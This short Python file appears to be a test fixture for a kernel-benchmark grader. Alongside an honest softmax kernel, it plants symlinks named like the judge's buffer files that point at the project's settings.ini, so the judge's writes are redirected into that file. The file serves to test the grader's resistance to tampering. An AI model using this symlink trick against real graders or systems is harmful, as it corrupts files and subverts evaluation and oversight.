"""Exploit (the judge's writes redirected): plants symlinks named like the judge's buffer files in its private dir,
pointing at the project's settings.ini, so that a judge which creates its shared buffers by name writes the inputs
into a file of its own. Honest otherwise: it must pass, and the judge's files must be unchanged."""
import os
from pathlib import Path

META = dict(kind='softmax', backend='triton')
_root = Path(os.environ.get('AUTOKERNEL_WORKER_DIR', os.getcwd()))
_target = Path(os.environ.get('AUTOKERNEL_HOME', '/nonexistent')) / 'settings.ini'
for _i in range(1, 200):
    try: os.symlink(_target, _root / f'buf{_i}.bin')
    except OSError: pass


def _softmax(x):
    xf = x.float()
    e = (xf - xf.amax(-1, keepdim=True)).exp()
    return (e / e.sum(-1, keepdim=True)).to(x.dtype)


def kernel_fn(x):
    return _softmax(x)
